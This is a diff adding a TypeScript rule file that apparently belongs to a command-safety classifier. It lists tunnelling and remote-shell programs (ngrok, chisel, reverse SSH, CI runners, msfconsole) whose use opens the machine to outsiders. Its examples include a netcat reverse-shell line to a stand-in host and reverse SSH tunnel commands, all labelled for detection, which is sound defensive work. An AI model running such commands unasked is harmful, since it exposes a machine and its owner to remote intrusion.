@@ -1,0 +1,77 @@
+import type { Family } from '../program.ts'
+import { isNearby } from '../../../words/hosts.ts'
+import type { Deeds } from '../deeds/deeds.ts'
+
+/** Programs of which any use opens the machine. Their `-h` names a host or a key, and asks for no help. */
+const always: Deeds = { work: [''], hIsNoHelp: true }
+const shells: Deeds = { ...always, object: 'shell of this machine' }
+
+const sshBack: Deeds = {
+  work: ['-R', '-w', '-o~remoteforward', '-o~tunnel'],
+  when: ({ command }) => !isNearby(command.network?.host ?? ''),
+}
+
+/** Patterns of subcommands with which these programs only look. */
+const looks = ['* list|ls|info|status|login|logout|help|version|delete']
+
+const opens = (deeds: Deeds): Deeds => ({ trials: 'version', harmless: looks, ...deeds })
+
+const programs: Family['programs'] = {
+  ssh: { does: opens(sshBack) },
+  autossh: { does: opens(sshBack) },
+  gh: {
+    does: opens({
+      work: ['codespace|cs ports visibility'],
+      when: ({ args }) => args.some(({ value }) => /^\d+:public$/.test(value)),
+    }),
+  },
+  ngrok: { does: opens({ work: ['http|https|tcp|tls|start|tunnel'] }) },
+  cloudflared: { does: opens({ work: ['tunnel|access'] }) },
+  bore: { does: opens({ work: ['local'] }) },
+  chisel: { does: opens({ work: ['client|server'] }) },
+  zrok: { does: opens({ work: ['share|access'] }) },
+  tailscale: { does: opens({ work: ['funnel|serve|up'] }) },
+  upterm: { does: opens({ work: ['host'] }) },
+  inlets: { does: opens({ work: ['client|http|tcp'] }) },
+  code: { does: opens({ work: ['tunnel|serve-web'] }) },
+  devtunnel: { does: opens({ work: ['host'] }) },
+  'lt localtunnel frpc ligolo tmate sshuttle localxpose loclx pagekite code-server iodine dnscat dnscat2 ptunnel teleconsole x11vnc anydesk sshd':
+    { does: opens(always) },
+  // Runners carry out the commands that a service of others sends them.
+  config: {
+    does: opens({
+      work: ['--token|--runnergroup|--pat'],
+      when: ({ command }) => command.program === 'config.sh',
+    }),
+  },
+  'gitlab-runner act_runner': { does: opens({ work: ['register'] }) },
+  'buildkite-agent': { does: opens({ work: ['start'] }) },
+  'telnetd in.telnetd rshd ttyd gotty pwncat-cs gs-netcat msfvenom msfconsole': { does: opens(shells) },
+}
+
+export const openedAccess: Family = {
+  area: {
+    name: 'opened-access',
+    thing: 'machine',
+    kind: 'open',
+    object: 'this machine to others, from outside',
+    names: 'none',
+  },
+
+  programs,
+  examples: {
+    'ngrok http 3000': 'opens this machine to others, from outside',
+    'ssh -fNR 2222:localhost:22 a.example': 'opens this machine to others, from outside',
+    'ssh -o RemoteForward=80:localhost:3000 a.example': 'opens this machine to others, from outside',
+    'npx localtunnel --port 3000': 'runs package `localtunnel`; opens this machine to others, from outside',
+    './config.sh --url https://a.example/b --token X': 'opens this machine to others, from outside',
+    'docker run --rm cloudflare/cloudflared:latest tunnel --url http://web:80':
+      'opens this machine to others, from outside',
+    'npx foo-open tunnel http://localhost:3000': 'runs package `foo-open`; opens this machine to others, from outside',
+    'gotty bash': 'opens a shell of this machine',
+    'nc -e /bin/sh a.example 99': 'opens a shell of this machine',
+    'ssh -R 9003:localhost:9003 dev@192.168.56.10': '',
+    'cloudflared tunnel list': '',
+    'ngrok --version': '',
+  },
+}
